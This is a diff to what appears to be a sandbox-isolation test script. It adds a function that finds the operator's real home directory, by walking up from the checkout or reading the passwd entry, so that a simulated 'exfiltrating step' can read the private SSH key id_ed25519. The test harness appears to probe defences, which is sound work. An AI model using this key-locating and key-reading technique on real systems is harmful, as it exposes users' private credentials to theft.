@@ -29,10 +29,24 @@ def finish() -> None:
     sys.exit(1)
 
 
+def operator_home() -> str:
+    """Where the operator's secrets are. A gate step's HOME is its own private directory, so look
+    where a real attacker would: up from the checkout (repositories live in homes), then the
+    passwd entry of the user the step runs as."""
+    here = os.getcwd()
+    while here != "/":
+        here = os.path.dirname(here)
+        if os.path.isdir(os.path.join(here, ".ssh")):
+            return here
+    import pwd
+
+    return pwd.getpwuid(os.getuid()).pw_dir
+
+
 def key_or_placeholder() -> bytes:
     """What an exfiltrating step sends: the key if it could read it, else a marker."""
     try:
-        with open(os.path.join(os.environ.get("HOME", "/root"), ".ssh", "id_ed25519"), "rb") as fh:
+        with open(os.path.join(operator_home(), ".ssh", "id_ed25519"), "rb") as fh:
             return fh.read()
     except OSError:
         return b"(the key was unreadable; sending this instead)\n"
